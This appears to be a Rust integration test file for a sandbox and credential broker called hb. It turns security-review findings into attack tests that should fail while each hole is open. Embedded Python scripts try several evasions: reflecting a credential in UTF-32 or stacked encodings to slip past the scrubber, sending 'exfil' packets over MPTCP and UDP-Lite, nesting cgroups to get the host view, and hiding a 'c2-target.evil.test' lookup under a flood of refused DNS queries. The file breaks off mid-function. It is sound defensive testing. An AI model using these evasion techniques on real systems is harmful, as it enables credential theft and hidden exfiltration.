//! Attacks from a review of hb as the process inside the sandbox sees it (`--user
//! 65534`, arbitrary code), each asserting the secure behaviour: a test here fails while
//! its hole is open.
//!
//! Everything lives on `lo` in the test's own network namespace; dnsmasq answers the
//! test names; the upstreams are Python servers started by the test, recording what
//! reached them.

use hb_tests::{
    PythonServer, TestEnv, private_netns,
    sandboxed::{broker_client_script, nobody_broker_client, nobody_python},
    worlds::{ReflectingUpstream, names_on_lo, resolver_config, started_agent},
};
use serde_json::Value;

const DNS_PORT: u16 = 5400;

/// The bearer credential of integration `e` (host `echo.test`).
const SECRET: &str = "ghp_R3v13wEch0T0kenAbCdEfGhIjKlMnOpQr";

/// The credential of integration `f` (host `f.echo.test`, the same provider), which only
/// policy `other` (another tenant) is bound to. No token family matches it.
const OTHER_TENANT_SECRET: &str = "7c1e2b9d4a-otherTenantKey-58f3";

/// An HTTPS upstream on `addr`:443 that reflects what it got, as debugging and
/// "whoami" endpoints do: `/reflect?charset=C` answers with the request's
/// `Authorization` header in a text body encoded in charset `C` (a Python codec name),
/// and says so in its `Content-Type`, as an API honouring `Accept-Charset` would;
/// `&enc=E1,E2` encodes those bytes again, step by step (`base64`, `urlsafe`, `hex`,
/// `json_all`: a JSON string's inside with every character `\uXXXX`, `html`: every
/// character as `&#x…;`, `json_mixed` and `html_mixed`: every second or third one), as
/// a debugging endpoint offering output encodings would.
/// `/keys` lists every key of the organisation (`keys`, a JSON list), as the key-listing
/// APIs of search and database providers do for an admin key.
/// Every request is one JSON line in `log`.
const REFLECT_PY: &str = r#"
import base64, http.server, json, ssl, sys, urllib.parse
addr, log, cert, key, keys = sys.argv[1:6]
def json_all(b):
    u = b.decode("utf-8").encode("utf-16-be")
    return "".join("\\u%02x%02x" % (u[i], u[i + 1]) for i in range(0, len(u), 2)).encode()
ENCODE = {
    "base64": base64.b64encode,
    "urlsafe": base64.urlsafe_b64encode,
    "hex": lambda b: b.hex().encode(),
    "json_all": json_all,
    "html": lambda b: "".join("&#x%x;" % ord(c) for c in b.decode("utf-8")).encode(),
    "json_mixed": lambda b: "".join("\\u%04X" % ord(c) if i % 2 else c for i, c in enumerate(b.decode("utf-8"))).encode(),
    "html_mixed": lambda b: "".join("&#%d;" % ord(c) if i % 3 == 0 else c for i, c in enumerate(b.decode("utf-8"))).encode(),
}
class H(TlsHandler):
    def do_GET(self):
        u = urllib.parse.urlparse(self.path)
        q = {k: v[0] for k, v in urllib.parse.parse_qs(u.query).items()}
        with open(log, "a") as f:
            f.write(json.dumps({"path": self.path, "headers": {k.lower(): v for k, v in self.headers.items()}}) + "\n")
        if u.path == "/keys":
            out = json.dumps({"keys": json.loads(keys)}).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(out)))
            self.end_headers()
            self.wfile.write(out)
            return
        charset = q.get("charset", "utf-8")
        text = "you sent: %s\n" % self.headers.get("authorization", "")
        out = text.encode(charset)
        for step in filter(None, q.get("enc", "").split(",")):
            out = ENCODE[step](out)
            charset = "us-ascii"
        self.send_response(200)
        self.send_header("Content-Type", "text/plain; charset=" + charset)
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)
"#;

/// A broker world: integration `e` (bearer, host `echo.test` on 203.0.113.10), bound to
/// policy `web`; integration `f` (bearer, host `f.echo.test`, the same server), bound to
/// policy `other` only. The upstream is [`REFLECT_PY`], given the organisation's keys.
struct BrokerWorld {
    env: TestEnv,
    upstream: ReflectingUpstream,
}

impl BrokerWorld {
    fn new(name: &str) -> Self {
        Self::with(name, "")
    }

    /// [`BrokerWorld::new`] with `extra` appended to the config.
    fn with(name: &str, extra: &str) -> Self {
        let keys = serde_json::json!([SECRET, OTHER_TENANT_SECRET]).to_string();
        let upstream = ReflectingUpstream::start(
            &format!("review-{name}"),
            DNS_PORT,
            &["echo.test", "f.echo.test"],
            REFLECT_PY,
            &[&keys],
        );
        let env = upstream.agent(
            name,
            "",
            &format!(
                r#"
[[integration]]
name = "e"
auth = "bearer"
hosts = ["echo.test"]
methods = ["GET"]

[[integration]]
name = "f"
auth = "bearer"
hosts = ["f.echo.test"]
methods = ["GET"]

[[policy]]
name = "web"
integrations = ["e"]

[[policy]]
name = "other"
integrations = ["f"]
{extra}
"#
            ),
            &[("e", "bot", SECRET), ("f", "bot", OTHER_TENANT_SECRET)],
        );
        Self { env, upstream }
    }

    /// Runs `script` (a [`broker_client_script`], with `hb` a broker client and
    /// `attempt(f)`) in a sandbox under policy `web` as user 65534; its JSON output.
    fn in_sandbox(&self, script: &str) -> Value {
        self.in_sandbox_under("web", script)
    }

    /// [`BrokerWorld::in_sandbox`] under `policy`.
    fn in_sandbox_under(&self, policy: &str, script: &str) -> Value {
        nobody_broker_client(&self.env, policy, script, &[])
    }

    fn upstream_requests(&self) -> Vec<Value> {
        self.upstream.records()
    }
}

// FINDING F1: an upstream that reflects the injected credential in UTF-32 (any
// charset whose ASCII has NUL bytes between characters, which is valid UTF-8) hands the
// credential to the caller: `broker/requests.rs::respond` takes a UTF-8-valid body as
// text, and `scrub/live.rs::forms` / `scrub/fragments.rs` look for raw, base64,
// percent, hex, JSON and UTF-16 forms only, so neither the whole value nor any run of
// it matches "g\0\0\0h\0\0\0p\0\0\0…". With a BOM the body passes as UTF-16 and comes
// back as body_base64, unscrubbed the same way.
/// A credential reflected by its upstream in UTF-32 (LE, BE, with or without a BOM)
/// never reaches the caller.
#[test]
fn a_credential_reflected_in_utf32_never_reaches_the_caller() {
    let w = BrokerWorld::new("review-utf32");
    let got = w.in_sandbox(
        r#"
h = hb.handle("e", "bot")["handle"]
out = {}
for cs in ["utf-8", "utf-16-le", "utf-32-le", "utf-32-be", "utf-32"]:
    r = attempt(lambda: hb.request("GET", "https://echo.test/reflect?charset=" + cs, handle=h))
    if "error" in r:
        out[cs] = {"error": r["error"], "recovered": ""}
        continue
    raw = r["body"].encode("utf-8") if "body" in r else base64.b64decode(r["body_base64"])
    # What the attacker does with it: drop the NULs (ASCII in UTF-16/UTF-32).
    out[cs] = {"status": r["status"], "recovered": raw.replace(b"\0", b"").decode("latin-1")}
print(json.dumps(out))
"#,
    );
    // The credential reached the upstream (the broker injected it) for every charset.
    let reached = w
        .upstream_requests()
        .iter()
        .filter(|r| r["headers"]["authorization"] == format!("Bearer {SECRET}"))
        .count();
    assert_eq!(reached, 5, "{:?}", w.upstream_requests());
    let leaked: Vec<&String> = got
        .as_object()
        .expect("answers")
        .iter()
        .filter(|(_, v)| v["recovered"].as_str().unwrap_or_default().contains(SECRET))
        .map(|(k, _)| k)
        .collect();
    assert!(
        leaked.is_empty(),
        "the credential came back to the caller in charsets {leaked:?}"
    );
}

// FINDING: an upstream that reflects the injected credential encoded twice (base64 of
// UTF-16 or UTF-32, hex of UTF-16) or escaped character by character (a JSON string of
// `\uXXXX`, HTML `&#x…;` references, all of them or some) hands it to the caller:
// `scrub/live.rs::forms` held UTF-16 of the value and single encodings only, and the
// spread view dropped NULs and `\u0000` alone.
/// A credential reflected by its upstream in a stacked encoding, or with every
/// character escaped, never reaches the caller: the body comes back with a
/// `[REDACTED:…]` marker where the value's encoding was, and decoding what is left
/// does not give the credential.
#[test]
fn a_credential_reflected_in_stacked_encodings_never_reaches_the_caller() {
    let w = BrokerWorld::new("review-stacked");
    let cases = [
        ("utf-16-le", "base64"),
        ("utf-16-be", "base64"),
        ("utf-16", "base64"),
        ("utf-32-le", "base64"),
        ("utf-32-be", "urlsafe"),
        ("utf-32", "base64"),
        ("utf-16-le", "hex"),
        ("utf-16-be", "hex"),
        ("utf-8", "json_all"),
        ("utf-8", "html"),
        ("utf-8", "json_mixed"),
        ("utf-8", "html_mixed"),
    ];
    let got = w.in_sandbox(&format!(
        r#"
import html, urllib.parse
cases = {cases}
h = hb.handle("e", "bot")["handle"]
def json_all(b):
    return json.loads('"' + b.decode() + '"', strict=False).encode("utf-8")
def html_all(b):
    return html.unescape(b.decode()).encode("utf-8")
DECODE = {{
    "base64": base64.b64decode,
    "urlsafe": base64.urlsafe_b64decode,
    "hex": bytes.fromhex,
    "json_all": json_all,
    "json_mixed": json_all,
    "html": html_all,
    "html_mixed": html_all,
}}
out = {{}}
for cs, enc in cases:
    key = cs + " " + enc
    url = "https://echo.test/reflect?" + urllib.parse.urlencode({{"charset": cs, "enc": enc}})
    r = attempt(lambda: hb.request("GET", url, handle=h))
    if "error" in r:
        out[key] = {{"error": r["error"], "recovered": "", "marker": False}}
        continue
    raw = r["body"].encode("utf-8") if "body" in r else base64.b64decode(r["body_base64"])
    # What the attacker does with it: undo the encodings, then read the charset.
    try:
        for step in reversed(enc.split(",")):
            raw = DECODE[step](raw.decode("ascii") if step == "hex" else raw)
        recovered = raw.decode(cs)
    except Exception:
        recovered = ""
    out[key] = {{
        "status": r["status"],
        "recovered": recovered,
        "marker": "[REDACTED:" in r.get("body", ""),
    }}
print(json.dumps(out))
"#,
        cases = serde_json::to_string(&cases).expect("cases"),
    ));
    let reached = w
        .upstream_requests()
        .iter()
        .filter(|r| r["headers"]["authorization"] == format!("Bearer {SECRET}"))
        .count();
    assert_eq!(
        reached,
        cases.len(),
        "the credential did not reach the upstream"
    );
    let answers = got.as_object().expect("answers");
    assert_eq!(answers.len(), cases.len());
    let leaked: Vec<&String> = answers
        .iter()
        .filter(|(_, v)| v["recovered"].as_str().unwrap_or_default().contains(SECRET))
        .map(|(k, _)| k)
        .collect();
    assert!(
        leaked.is_empty(),
        "the credential came back to the caller in {leaked:?}"
    );
    for (key, v) in answers {
        assert_eq!(v["status"], 200, "{key}: no answer");
        assert_eq!(v["marker"], true, "{key}: nothing was redacted");
    }
}

/// Opens a stream socket of protocol `proto` (6: TCP, 262: Multipath TCP) to each
/// `host:port` in argv, by `connect` and by a TCP Fast Open `sendto`, sends a line, and
/// prints one JSON object: `"<proto> <how> <host>" → "OK" | errno name`.
const PY_STREAMS: &str = r#"
import errno, json, socket, sys
MSG_FASTOPEN = 0x20000000
out = {}
for target in sys.argv[1:]:
    host, port = target.rsplit(":", 1)
    for proto in (6, 262):
        for how in ("connect", "fastopen"):
            key = "%d %s %s" % (proto, how, host)
            try:
                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, proto)
                s.settimeout(3)
                if how == "connect":
                    s.connect((host, int(port)))
                    s.sendall(b"hb-review-exfil\n")
                else:
                    s.sendto(b"hb-review-exfil\n", MSG_FASTOPEN, (host, int(port)))
                s.recv(16)
                out[key] = "OK"
            except OSError as e:
                out[key] = errno.errorcode.get(e.errno, str(e.errno))
print(json.dumps(out))
"#;

/// Policy `closed`: no address allowed; 198.51.100.0/24 counts as public.
const CLOSED_POLICY: &str = r#"
[egress]
exception_cidrs = ["198.51.100.0/24"]

# No socket bound: beside the agent a sandbox opens no MPTCP socket while one is set
# (attack review 25), and MPTCP's connect and Fast Open paths are what is tried here.
[sandbox_defaults]
sockets_max = 0
sockets_node_percent = 0

[[policy]]
name = "closed"
allow_cidrs = []
"#;

/// Runs `probe` (Python printing its verdicts as one JSON object) against `targets` as
/// nobody in a sandbox of [`CLOSED_POLICY`] (agent `name`); its verdicts, once half a
/// second has passed for anything it sent to land.
fn closed_sandbox_probe(name: &str, probe: &str, targets: &[&str]) -> Value {
    let mut env = TestEnv::new(name, CLOSED_POLICY);
    env.start_agent();
    let out = nobody_python(&env, "closed", probe, targets);
    assert!(
        out.status.success(),
        "probe failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let got: Value = serde_json::from_slice(&out.stdout).expect("probe JSON");
    std::thread::sleep(std::time::Duration::from_millis(500));
    got
}

/// Multipath TCP (`socket(AF_INET, SOCK_STREAM, IPPROTO_MPTCP)`, allowed by the seccomp
/// filter, which judges only family and type) reaches neither a private address nor a
/// public one outside the policy, by connect or by a Fast Open sendto, just as TCP does not.
#[test]
fn multipath_tcp_reaches_no_address_the_policy_did_not_allow() {
    hb_tests::require_root();
    private_netns(&["10.9.8.7", "198.51.100.7"]);
    let private = hb_tests::TcpProbe::bind("10.9.8.7:8080");
    let public = hb_tests::TcpProbe::bind("198.51.100.7:8080");
    let got = closed_sandbox_probe(
        "review-mptcp",
        PY_STREAMS,
        &["10.9.8.7:8080", "198.51.100.7:8080"],
    );
    assert_eq!(
        private.accepted(),
        0,
        "a private address was reached: {got}"
    );
    assert_eq!(
        public.accepted(),
        0,
        "an address outside the policy was reached: {got}"
    );
    for (key, verdict) in got.as_object().expect("results") {
        assert_ne!(verdict, "OK", "{key}: {got}");
        // Multipath TCP was really tried: refused as TCP is, not unsupported.
        let tcp = key.replacen("262 ", "6 ", 1);
        assert_eq!(verdict, &got[&tcp], "{key} vs {tcp}: {got}");
    }
}

// FINDING F2: a provider's key-listing answer (an admin key listing the organisation's
// keys) hands a sandbox another tenant's live credential in clear. Since the scrub-oracle
// fix, `broker/requests.rs::respond` scrubs with `View::of(caller)`: the token families
// plus the caller's own handles and credentials only, so a value of another tenant
// that matches no family passes untouched, though the broker holds it decrypted.
// (README § Broker calls this deliberate, to close the guessing oracle; the oracle needs
// the guess in the caller's own request, a listing does not: see the report.)
/// Another tenant's credential, listed by the provider in the answer to a call made
/// with the attacker's own handle, does not reach the attacker.
#[test]
fn another_tenants_credential_listed_by_the_provider_never_reaches_the_caller() {
    let w = BrokerWorld::new("review-listing");
    // The other tenant uses its credential: the broker holds it decrypted.
    let victim = w.in_sandbox_under(
        "other",
        r#"
f = hb.handle("f", "bot")["handle"]
print(json.dumps(attempt(lambda: hb.request("GET", "https://f.echo.test/reflect", handle=f))))
"#,
    );
    assert_eq!(victim["status"], 200, "{victim}");
    let got = w.in_sandbox(
        r#"
h = hb.handle("e", "bot")["handle"]
r = attempt(lambda: hb.request("GET", "https://echo.test/keys", handle=h))
print(json.dumps({"status": r.get("status"), "error": r.get("error"), "body": r.get("body", "")}))
"#,
    );
    assert_eq!(got["status"], 200, "{got}");
    let body = got["body"].as_str().unwrap_or_default();
    assert!(
        !body.contains(SECRET),
        "the caller's own credential came back: {}",
        body.replace(SECRET, "<own>")
    );
    assert!(
        !body.contains(OTHER_TENANT_SECRET),
        "another tenant's credential reached the caller in clear"
    );
}

/// Sends a datagram of protocol `proto` (17: UDP, 136: UDP-Lite) to each `host:port` in
/// argv, by `connect` + `send` and by `sendto`; prints `"<proto> <how> <host>" → "OK" |
/// errno name` as one JSON object.
const PY_DATAGRAMS: &str = r#"
import errno, json, socket, sys
out = {}
for target in sys.argv[1:]:
    host, port = target.rsplit(":", 1)
    for proto in (17, 136):
        for how in ("connect", "sendto"):
            key = "%d %s %s" % (proto, how, host)
            try:
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, proto)
                if how == "connect":
                    s.connect((host, int(port)))
                    s.send(b"hb-review-exfil")
                else:
                    s.sendto(b"hb-review-exfil", (host, int(port)))
                out[key] = "OK"
            except OSError as e:
                out[key] = errno.errorcode.get(e.errno, str(e.errno))
print(json.dumps(out))
"#;

/// A UDP-Lite socket bound at `addr`, counting what it receives.
fn udplite_receiver(
    addr: &str,
) -> (
    std::net::UdpSocket,
    std::sync::Arc<std::sync::atomic::AtomicUsize>,
) {
    use std::os::fd::FromRawFd as _;
    let addr: std::net::SocketAddrV4 = addr.parse().expect("addr");
    // SAFETY: plain socket(2); the descriptor is owned by the UdpSocket made from it.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_DGRAM, 136) };
    assert!(
        fd >= 0,
        "UDP-Lite socket: {}",
        std::io::Error::last_os_error()
    );
    // SAFETY: a fresh descriptor, owned from here on.
    let sock = unsafe { std::net::UdpSocket::from_raw_fd(fd) };
    let sa = libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: addr.port().to_be(),
        sin_addr: libc::in_addr {
            s_addr: u32::from_ne_bytes(addr.ip().octets()),
        },
        sin_zero: [0; 8],
    };
    // SAFETY: bind(2) with a sockaddr_in of the right size.
    let rc = unsafe {
        libc::bind(
            fd,
            (&raw const sa).cast(),
            std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
        )
    };
    assert_eq!(rc, 0, "bind UDP-Lite: {}", std::io::Error::last_os_error());
    let count = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let (c, s) = (count.clone(), sock.try_clone().expect("clone"));
    std::thread::spawn(move || {
        let mut buf = [0u8; 2048];
        while s.recv_from(&mut buf).is_ok() {
            c.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        }
    });
    (sock, count)
}

/// UDP-Lite (`socket(AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE)`, allowed by the seccomp
/// filter) reaches neither a private address nor a public one outside the policy, by
/// connect + send or by sendto: its connect has no cgroup hook of its own, so the packet
/// hook must catch it.
#[test]
fn udp_lite_reaches_no_address_the_policy_did_not_allow() {
    hb_tests::require_root();
    private_netns(&["10.9.8.7", "198.51.100.7"]);
    let (_a, private) = udplite_receiver("10.9.8.7:9999");
    let (_b, public) = udplite_receiver("198.51.100.7:9999");
    let private_udp = hb_tests::UdpProbe::bind("10.9.8.7:9999");
    let public_udp = hb_tests::UdpProbe::bind("198.51.100.7:9999");
    let got = closed_sandbox_probe(
        "review-udplite",
        PY_DATAGRAMS,
        &["10.9.8.7:9999", "198.51.100.7:9999"],
    );
    let arrived = |c: &std::sync::Arc<std::sync::atomic::AtomicUsize>| {
        c.load(std::sync::atomic::Ordering::SeqCst)
    };
    assert_eq!(
        arrived(&private),
        0,
        "UDP-Lite reached a private address: {got}"
    );
    assert_eq!(
        arrived(&public),
        0,
        "UDP-Lite reached an address outside the policy: {got}"
    );
    assert_eq!(
        private_udp.received(),
        0,
        "UDP reached a private address: {got}"
    );
    assert_eq!(
        public_udp.received(),
        0,
        "UDP reached an address outside the policy: {got}"
    );
    eprintln!("verdicts: {got}");
}

// FINDING F3: a process 16 or more cgroup levels below its enrolled cgroup is a *host*
// caller to the broker while the kernel still enforces its sandbox's policy on it:
// `broker/identity.rs::Identity::enrollment` walks at most MAX_LEVELS (16) levels *up
// from the caller's cgroup*, while the eBPF programs (`hb-ebpf/src/policy.rs::
// enrollment`) look at the ancestors at *absolute* levels 1..=16, which find an enrolled
// cgroup at any depth below it. A pod whose cgroup is delegated to it (systemd or a
// nested runtime in the container, a writable cgroupfs) nests itself 16 levels down and
// gets the host callers' view: `/v1/scrub` then redacts every tenant's live credential
// (the guessing oracle the sandbox view exists to close), `broker.host_policy`'s
// handles and requests, and, as uid 0, event-stream sessions.
/// A pod process nested deep below its enrolled pod cgroup is still that pod's sandbox
/// to the broker (as it is to the kernel): same policy, same scrubber view.
#[test]
fn a_pod_nested_deep_in_its_cgroup_is_still_its_sandbox_to_the_broker() {
    let w = BrokerWorld::with("review-deep", &hb_tests::pod_glob("web"));
    // The other tenant uses its credential: the broker holds it decrypted.
    let victim = w.in_sandbox_under(
        "other",
        r#"
f = hb.handle("f", "bot")["handle"]
print(json.dumps(attempt(lambda: hb.request("GET", "https://f.echo.test/reflect", handle=f))))
"#,
    );
    assert_eq!(victim["status"], 200, "{victim}");
    let pod = w.env.root_pod("web");
    let script = broker_client_script(
        &w.env,
        &format!(
            "import socket, errno\ns = socket.socket()\ns.settimeout(3)\n\
             try:\n    s.connect((\"203.0.113.10\", 443))\n    net = \"OK\"\n\
             except OSError as e:\n    net = errno.errorcode.get(e.errno, str(e.errno))\n\
             me = hb.whoami()\nguess = hb.scrub({secret:?})\n\
             print(json.dumps({{\"whoami\": me, \"scrub\": guess, \"net\": net}}))\n",
            secret = OTHER_TENANT_SECRET,
        ),
    );
    let mut results = Vec::new();
    for depth in [1usize, 16] {
        let rel: Vec<String> = (0..depth).map(|i| format!("n{i}")).collect();
        let deep = rel.join("/");
        // Inside the pod: nest, move there, run the broker client as uid 65534.
        let shell = format!(
            "mkdir -p {deep} && echo $$ > {deep}/cgroup.procs && exec setpriv --reuid 65534 \
             --regid 65534 --clear-groups {py} -c \"$0\"",
            py = hb_tests::python(),
        );
        let mut cmd = pod.command(&["sh", "-c", &shell, &script]);
        cmd.current_dir(hb_tests::cgroup2_mount().join(&pod.rel));
        let out = cmd.output().expect("pod command");
        assert!(
            out.status.success(),
            "depth {depth}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let got: Value = serde_json::from_slice(&out.stdout).expect("client JSON");
        results.push((depth, got));
    }
    for (depth, got) in &results {
        // The kernel enforces the pod's policy at every depth (web allows no address).
        assert_eq!(got["net"], "EPERM", "depth {depth}: {got}");
        let who = &got["whoami"];
        let redacted = got["scrub"]["text"]
            .as_str()
            .is_some_and(|t| !t.contains(OTHER_TENANT_SECRET));
        assert_eq!(
            who["sandbox"]["policy"], "web",
            "at depth {depth} below its pod cgroup, the broker did not see the pod's sandbox \
             (another tenant's value redacted by /v1/scrub: {redacted}): {who}"
        );
        let scrubbed = got["scrub"]["text"].as_str().unwrap_or_default();
        assert!(
            scrubbed.contains(OTHER_TENANT_SECRET),
            "at depth {depth}: /v1/scrub told the pod that its guess is another tenant's \
             live credential (the host view): {scrubbed}"
        );
    }
}

/// A plain HTTP/1.1 server on `203.0.113.10:80` that answers every request 200 and
/// keeps the connection open (as any keep-alive server does).
const KEEPALIVE_PY: &str = r#"
import http.server
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def log_message(self, *a): pass
    def do_GET(self):
        out = ("ok %s\n" % self.path).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)
class S(http.server.ThreadingHTTPServer):
    daemon_threads = True
    def handle_error(self, request, client_address): pass
S(("203.0.113.10", 80), H).serve_forever()
"#;

/// Opens `argv[1]` guarded connections to allowed.test:80, each carrying one answered
/// request, holds those that were answered, prints `held N`, then waits.
const HOG_PY: &str = r#"
import socket, sys, time
socket.getaddrinfo("allowed.test", 80)
held = []
for i in range(int(sys.argv[1])):
    try:
        s = socket.create_connection(("203.0.113.10", 80), timeout=10)
        s.sendall(b"GET /hold HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
        if s.recv(100).startswith(b"HTTP/1.1 200"):
            held.append(s)
    except OSError:
        pass
print("held", len(held), flush=True)
time.sleep(120)
"#;

// FINDING F4: the guard's per-cgroup share (`max_connections_per_cgroup`, "one sandbox
// may not take every slot of its policy") is counted per *leaf* cgroup: the connect hook
// files the task's own cgroup id (`hb-ebpf/src/sock_addr.rs::current_enrollment`
// returns `own`, not the governing enrolled cgroup that `policy::governing` finds), and
// `guard/mod.rs` keys the share by that id. A pod with sub-cgroups (each container is
// one; a delegated cgroup makes as many as it likes) holds one share per sub-cgroup and
// fills the policy's `max_connections_per_policy`: every other sandbox of the policy
// gets `guard_busy`.
/// A pod spread over several sub-cgroups holds one share of its policy's guard slots, not
/// one per sub-cgroup: another sandbox of the policy still connects.
#[test]
fn a_pod_split_into_sub_cgroups_cannot_take_every_guard_slot_of_its_policy() {
    let _dns = names_on_lo(
        &["203.0.113.10"],
        DNS_PORT,
        &[("allowed.test", &["203.0.113.10"])],
        60,
    );
    let _server = PythonServer::start(KEEPALIVE_PY);
    let config = format!(
        r#"
[guard]
max_connections_per_policy = 8
max_connections_per_cgroup = 2
{resolver}
[[policy]]
name = "web"
allow_domains = ["allowed.test"]
{glob}
"#,
        resolver = resolver_config(DNS_PORT, false, "", &["203.0.113.0/24"]),
        glob = hb_tests::pod_glob("web")
    );
    let env = started_agent("review-slots", &config);
    let victim = || {
        let out = nobody_python(
            &env,
            "web",
            r#"
import socket
socket.getaddrinfo("allowed.test", 80)
try:
    s = socket.create_connection(("203.0.113.10", 80), timeout=10)
    s.sendall(b"GET /victim HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
    print(s.recv(100).split(b"\r\n")[0].decode() or "closed")
except OSError as e:
    print("error", e)
"#,
            &[],
        );
        String::from_utf8_lossy(&out.stdout).trim().to_owned()
    };
    // The world works: with nothing held, a sandbox of the policy connects.
    assert_eq!(victim(), "HTTP/1.1 200 OK", "control");
    let pod = env.root_pod("web");
    let mut hogs = Vec::new();
    let mut lines = Vec::new();
    for i in 0..4 {
        // One sub-cgroup per hog (a container each), as uid 65534.
        let shell = format!(
            "mkdir -p c{i} && echo $$ > c{i}/cgroup.procs && exec setpriv --reuid 65534 \
             --regid 65534 --clear-groups {py} -c \"$0\" 3",
            py = hb_tests::python(),
        );
        let mut cmd = pod.command(&["sh", "-c", &shell, HOG_PY]);
        cmd.current_dir(hb_tests::cgroup2_mount().join(&pod.rel))
            .stdout(std::process::Stdio::piped());
        let mut child = cmd.spawn().expect("hog");
        let mut line = String::new();
        std::io::BufRead::read_line(
            &mut std::io::BufReader::new(child.stdout.take().expect("stdout")),
            &mut line,
        )
        .expect("hog line");
        lines.push(line.trim().to_owned());
        hogs.push(child);
    }
    let answer = victim();
    for mut h in hogs {
        let _ = h.kill();
        let _ = h.wait();
    }
    assert_eq!(
        answer, "HTTP/1.1 200 OK",
        "another sandbox of the policy was refused while one pod held {lines:?} from four \
         sub-cgroups"
    );
}

/// Asks hb's resolver (through the kernel's redirect of port 53) for `noise.denied.test`
/// `argv[1]` times, then once for `c2-target.evil.test` (the name the attacker is after),
/// then, after the event window (10 s) has passed, once for `late.denied.test`.
const PY_DNS_COVER: &str = r#"
import socket, struct, sys, time
def ask(name, i):
    q = struct.pack(">HHHHHH", i & 0xffff, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
    s.sendto(q, ("192.0.2.53", 53))
    try:
        return s.recv(512)[3] & 0xf
    except OSError:
        return "lost"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
for i in range(int(sys.argv[1])):
    ask("noise.denied.test", i)
print("target", ask("c2-target.evil.test", 1), flush=True)
time.sleep(11)
print("late", ask("late.denied.test", 2), flush=True)
"#;

/// Runs `cover` (a flood of 100 refusals, then the target, then one refusal more after
/// the event window) as nobody in a sandbox of `policy`; what it printed.
fn cover_run(env: &TestEnv, policy: &str, cover: &str) -> String {
    let out = nobody_python(env, policy, cover, &["100"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

// FINDING F5: the resolver's (and the guard's) event budget is one per policy and hook
// (`events.rs::DnsBudget`, keyed by (hook, policy)); past it a refused name is counted
// into the next admitted record's `suppressed` and never named. So a sandbox asks for a
// cheap refused name 64 times, then for the one it is after: no event, no audit line ever
// names it (the same cover the seccomp budget gave before held-back refusals were kept
// per system call name). Any sandbox of the policy can hide another's names the same way.
/// A refused name asked for after a flood of another refused name is still named in an
/// event once the budget allows (held back per name, as seccomp refusals are).
#[test]
fn a_flood_of_one_refused_name_does_not_hide_another() {
    hb_tests::require_root();
    private_netns(&[]);
    let config = r#"
[dns]
listen = "127.0.0.1:5300"
# Never asked: every name below is refused by policy before any upstream.
upstreams = ["127.0.0.1:5400"]

[[policy]]
name = "web"
allow_domains = ["allowed.test"]
"#;
    let mut env = TestEnv::new("review-dnscover", config);
    env.start_agent();
    let said = cover_run(&env, "web", PY_DNS_COVER);
    assert!(
        said.contains("target 3"),
        "the name was refused (NXDOMAIN): {said}"
    );
    // The record after the window is written (carrying what was suppressed).
    env.wait_event("the refused name after the window", |e| {
        e["name"] == "late.denied.test"
    });
    let named = env
        .events()
        .iter()
        .any(|e| e["name"] == "c2-target.evil.test");
    assert!(
        named,
        "no event names the refused c2-target.evil.test: a flood of noise.denied.test hid it"
    );
}

/// DNS over TCP (through the kernel's redirect of port 53 to hb's resolver): `hold N`
/// opens N connections and keeps each alive with a query every 4 s, printing `held K`
/// (those answered) once; `ask` sends one query for allowed.test on a fresh connection
/// and prints `answered` or `refused`.
const PY_TCP_DNS: &str = r#"
import socket, struct, sys, time
def query(i):
    q = struct.pack(">HHHHHH", i & 0xffff, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in "allowed.test".split(".")) + b"\0" + struct.pack(">HH", 1, 1)
    return struct.pack(">H", len(q)) + q
def ask(s, i):
    s.sendall(query(i))
    n = s.recv(2)
    return len(n) == 2 and len(s.recv(4096)) > 0
if sys.argv[1] == "ask":
    try:
        s = socket.create_connection(("192.0.2.53", 53), timeout=5)
        print("answered" if ask(s, 7) else "refused", flush=True)
    except OSError:
        print("refused", flush=True)
    sys.exit(0)
conns = []
for i in range(int(sys.argv[2])):
    try:
        s = socket.create_connection(("192.0.2.53", 53), timeout=5)
        if ask(s, i):
            conns.append(s)
    except OSError:
        pass
print("held", len(conns), flush=True)
while True:
    time.sleep(4)
    for i, s in enumerate(conns):
        try:
            ask(s, i)
        except OSError:
            pass
"#;

// FINDING F6: the resolver's TCP connections are capped per policy only
// (`dns/mod.rs::TcpLimits::admit`: `dns.max_tcp_connections_per_policy`, default 32, and
// the global cap), with no share per sandbox as the guard has
// (`max_connections_per_cgroup`). One sandbox opens 32 TCP DNS connections and keeps them
// alive with a query every few seconds (inside `tcp_idle_timeout_secs`): every other
// sandbox of its policy has its TCP DNS (truncated answers, `use-vc` resolvers) closed
// unanswered for as long as it likes.
/// One sandbox cannot hold every TCP DNS connection of its policy: another sandbox of
/// the policy still gets its TCP query answered.
#[test]
fn one_sandbox_cannot_hold_every_tcp_dns_connection_of_its_policy() {
    let _dns = names_on_lo(
        &["203.0.113.10"],
        DNS_PORT,
        &[("allowed.test", &["203.0.113.10"])],
        60,
    );
    let config = format!(
        r#"{resolver}
[[policy]]
name = "web"
allow_domains = ["allowed.test"]
"#,
        resolver = resolver_config(DNS_PORT, false, "", &["203.0.113.0/24"]),
    );
    let env = started_agent("review-tcpdns", &config);
    let ask = || {
